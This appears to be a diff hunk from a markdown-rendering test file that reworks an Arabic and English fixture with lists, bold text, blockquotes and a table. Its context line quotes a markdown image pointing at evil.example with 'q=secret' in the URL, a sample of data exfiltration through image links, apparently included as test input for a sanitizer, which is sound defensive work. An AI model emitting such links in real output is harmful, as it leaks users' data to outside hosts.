@@ -77,16 +77,19 @@ https://evil.example/bare ![pixel](https://evil.example/track.png?q=secret) <htt
 \`\`\`
 [1] [99]`;
 
-const ARABIC = `1. PDF ملف الشحن
-2. **التوصيل** إلى كندا
-3. \`kettle\` الغلاية
+const ARABIC = `نعم، نشحن إلى كندا:
+
+1. \`PDF\` ملف الشحن
+2. PDF للفاتورة
+   - Canada Post
+3. **التوصيل** إلى كندا
 
 - Kettle أولا
 - ثم الشاي
 
-> Note ملاحظة
-
 > ملاحظة Tea
+>
+> Tea ثم
 
 | الماء | Every |
 |:------|------:|
